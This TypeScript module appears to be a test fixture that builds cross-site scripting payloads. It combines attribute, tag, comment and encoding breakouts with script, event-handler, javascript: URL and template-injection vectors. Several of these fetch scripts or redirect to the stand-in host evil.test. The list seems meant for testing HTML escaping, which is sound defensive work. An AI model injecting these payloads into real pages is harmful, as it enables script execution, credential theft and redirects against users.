/** What would run, load or send something if a page took text for HTML: each vector behind each way out of where the
 *  text may stand. */
export const payloads: readonly string[] = waysOut().flatMap((out) => vectors().map((vector) => out + vector))

/** Ends of attributes, elements, comments and encodings. */
function waysOut(): string[] {
  return [
    ...[
      '',
      '">',
      "'>",
      '"',
      "'",
      '`',
      '-->',
      '<!--',
      ']]>',
      '\\">',
      '&quot;>',
      '%22%3E',
      '\ufeff">',
      '\u2028',
    ],
    ...['</title>', '</noscript>', '</select>', '</style>', '</dd></dl>', '</textarea></script>'],
  ]
}

function vectors(): string[] {
  return [
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.test/x.js></sCrIpT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src=//evil.test/x.png>',
    '<svg onload=alert(1)>',
    '<svg><script href="data:text/javascript,alert(1)" /></svg>',
    '<body onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src=//evil.test/x.swf>',
    '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<meta http-equiv=refresh content="0;url=//evil.test">',
    '<base href=//evil.test/>',
    '<link rel=stylesheet href=//evil.test/x.css>',
    '<style>@import "//evil.test/x.css";</style>',
    '<form action=//evil.test><button>Pay</button></form>',
    ' autofocus onfocus=alert(1) x=',
    'javascript:alert(1)//',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= alert(1) %>",
  ]
}
